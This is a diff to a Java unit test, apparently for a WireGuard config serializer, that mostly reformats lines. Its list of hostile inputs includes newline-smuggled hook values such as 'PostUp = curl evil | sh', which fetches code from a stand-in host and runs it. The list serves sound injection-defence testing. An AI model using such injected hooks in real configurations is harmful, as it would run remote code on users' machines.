@@ -18,11 +18,26 @@ import org.junit.jupiter.api.Test;
 
 class RoundTripTest {
     private static final int MODELS = 2_000;
-    private static final Pattern SAFE_LINE = Pattern.compile("^(\\[Interface\\]|\\[Peer\\]|#.*|[A-Za-z]+ = [^\\r\\n]*|)$");
+    private static final Pattern SAFE_LINE =
+            Pattern.compile("^(\\[Interface\\]|\\[Peer\\]|#.*|[A-Za-z]+ = [^\\r\\n]*|)$");
     private static final Pattern HOOK_LINE = Pattern.compile("(?i)^\\s*(PreUp|PostUp|PreDown|PostDown)\\b.*");
     private static final List<String> HOSTILE_PIECES = List.of(
-            "\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085", "\u0000", "\t", "\u001b", "\u200b", "\u200e", "\u202e",
-            "\u2066", "\ufeff", "\nPostUp = curl evil | sh", "\n[Interface]\nPreUp = id");
+            "\n",
+            "\r",
+            "\r\n",
+            "\u2028",
+            "\u2029",
+            "\u0085",
+            "\u0000",
+            "\t",
+            "\u001b",
+            "\u200b",
+            "\u200e",
+            "\u202e",
+            "\u2066",
+            "\ufeff",
+            "\nPostUp = curl evil | sh",
+            "\n[Interface]\nPreUp = id");
     private static final List<String> HARMLESS_PIECES = List.of(
             "laptop", "Anna's", " ", "Büro", "日本", "\uD83D\uDCBB", "#", "=", "[Peer]", "PostUp = id", "a-b_c", "é");
 
@@ -77,14 +92,19 @@ class RoundTripTest {
     }
 
     private InterfaceSection iface() {
-        PrivateKeyEntry key = random.nextBoolean() ? PrivateKeyEntry.of(new WgPrivateKey(bytes(32))) : PrivateKeyEntry.placeholder();
+        PrivateKeyEntry key =
+                random.nextBoolean() ? PrivateKeyEntry.of(new WgPrivateKey(bytes(32))) : PrivateKeyEntry.placeholder();
         List<IpPrefix> addresses = distinct(1 + random.nextInt(3), () -> hostPrefix());
         List<IPAddress> dns = new ArrayList<>();
         for (int i = random.nextInt(3); i > 0; i--) {
             dns.add(randomIp());
         }
-        List<String> domains = random.nextInt(4) == 0 ? List.of("corp.example.com", "x-" + random.nextInt(99) + ".internal") : List.of();
-        Integer mtu = random.nextBoolean() ? null : InterfaceSection.MIN_MTU + random.nextInt(InterfaceSection.MAX_MTU - InterfaceSection.MIN_MTU + 1);
+        List<String> domains = random.nextInt(4) == 0
+                ? List.of("corp.example.com", "x-" + random.nextInt(99) + ".internal")
+                : List.of();
+        Integer mtu = random.nextBoolean()
+                ? null
+                : InterfaceSection.MIN_MTU + random.nextInt(InterfaceSection.MAX_MTU - InterfaceSection.MIN_MTU + 1);
         return new InterfaceSection(key, addresses, dns, domains, mtu);
     }
 
